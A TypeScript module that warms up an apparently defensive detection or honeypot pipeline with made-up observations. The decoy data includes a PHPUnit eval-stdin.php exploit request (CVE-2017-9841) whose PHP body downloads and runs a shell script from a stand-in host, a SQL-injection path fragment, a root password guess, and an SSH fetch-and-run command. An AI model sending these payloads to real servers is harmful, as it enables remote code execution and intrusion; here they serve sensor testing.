/**
 * Takes made-up observations through the pipeline before the first real one comes, as `warm-decoys.ts` does for the sensor: signatures and
 * checks are compiled at their first use, some 50 ms in the engine.
 */

import type { Fact, Observation } from '../core/observation.ts';
import { Judge } from '../decide/judge.ts';
import { defaultPolicy } from '../decide/policy.ts';
import { detectors } from '../detectors/index.ts';
import { checkObservation } from '../wire/observation-check.ts';
import { Pipeline } from './pipeline.ts';

/** Enough for the hot functions to be compiled. */
const rounds = 150;
/** No start is held up for longer. */
const longestMilliseconds = 1000;

const facts: readonly Fact[] = [
  { kind: 'contact', service: 'http', protocol: 'http', tls: false, firstBytes: 'R0VUIC8gSFRUUC8xLjE=' },
  {
    kind: 'request',
    service: 'http',
    method: 'POST',
    path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?id=1%20union%20select%201',
    headers: [
      ['Host', '192.0.2.1'],
      ['User-Agent', 'Mozilla/5.0'],
      ['Content-Type', 'application/x-www-form-urlencoded'],
    ],
    body: '<?php system("cd /tmp; wget http://192.0.2.2/a.sh; sh a.sh"); ?>',
    status: 200,
  },
  {
    kind: 'exploit',
    service: 'http',
    class: 'php',
    name: 'warm-up',
    cves: ['CVE-2017-9841'],
    technique: 'T1190',
    detail: '<?php system("id"); ?>',
  },
  { kind: 'auth', service: 'ssh', user: 'root', method: 'password', password: '123456', accepted: false },
  {
    kind: 'command',
    service: 'ssh',
    input: 'cd /tmp && wget http://192.0.2.2/a.sh && sh a.sh',
    urls: ['http://192.0.2.2/a.sh'],
  },
  { kind: 'payload', service: 'http', sha256: '0'.repeat(64), bytes: 64, how: 'http-body' },
  { kind: 'scan', probe: 'syn' },
];

/** Leaves nothing behind: judge and detectors' memory are its own. */
export function warmPipeline(): void {
  const pipeline = new Pipeline(
    new Judge({ policy: { ...defaultPolicy, maximumSources: 1000 }, guards: [] }),
    detectors,
  );
  const end = Date.now() + longestMilliseconds;
  for (let round = 0; round < rounds && Date.now() < end; round += 1) {
    for (const [index, fact] of facts.entries()) {
      const observation: Observation = {
        id: '00000000-0000-7000-8000-000000000000',
        at: Date.now(),
        sensor: 'warm-up',
        sequence: 1 + round * facts.length + index,
        source: `192.0.2.${1 + (round % 250)}`,
        sourcePort: 40_000,
        destination: '192.0.2.1',
        destinationPort: 1 + round,
        transport: 'tcp',
        session: `warm-up-${round}`,
        spoofable: false,
        ...fact,
      };
      const check = checkObservation(JSON.parse(JSON.stringify(observation)));
      if (!check.ok) throw new Error(`a made-up observation is none: ${check.why}`);
      pipeline.observe(check.observation, () => {});
    }
  }
}
